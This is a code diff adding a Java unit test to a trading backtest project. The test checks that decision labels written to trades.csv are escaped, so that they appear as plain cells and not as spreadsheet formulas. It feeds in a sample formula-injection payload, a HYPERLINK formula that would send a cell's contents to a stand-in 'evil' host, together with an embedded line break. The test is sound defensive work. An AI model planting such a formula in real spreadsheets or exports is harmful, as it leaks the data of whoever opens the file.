@@ -303,4 +303,40 @@ class BacktestTest {
       assertThat(rows.getInt(1)).isEqualTo(result.curve().size());
     }
   }
+
+  @Test
+  void labelsOfOthersAreCellsAndNoFormulas(@TempDir Path folder) throws IOException {
+    BacktestResult result = run(settings(""));
+    MarketDescription market = result.market();
+    List<String> labels =
+        market.decisions().stream()
+            .map(_ -> "=HYPERLINK(\"http://evil/?\"&A1),x\r\nnext")
+            .toList();
+    BacktestResult labelled =
+        new BacktestResult(
+            result.stamp(),
+            new MarketDescription(
+                market.base(),
+                market.quote(),
+                market.baseDecimals(),
+                market.quoteDecimals(),
+                market.feePips(),
+                market.headSeconds(),
+                labels,
+                market.targets(),
+                market.scenario()),
+            result.curve(),
+            result.trades(),
+            result.decisions(),
+            result.totals(),
+            result.warnings(),
+            result.activity());
+    assertThat(result.trades()).isNotEmpty();
+    ResultFiles.write(labelled, folder);
+    assertThat(Files.readAllLines(folder.resolve("trades.csv")))
+        .hasSize(result.trades().size() + 1)
+        .element(1)
+        .asString()
+        .contains(",\"'=HYPERLINK(\"\"http://evil/?\"\"&A1),x\\r\\nnext\",");
+  }
 }
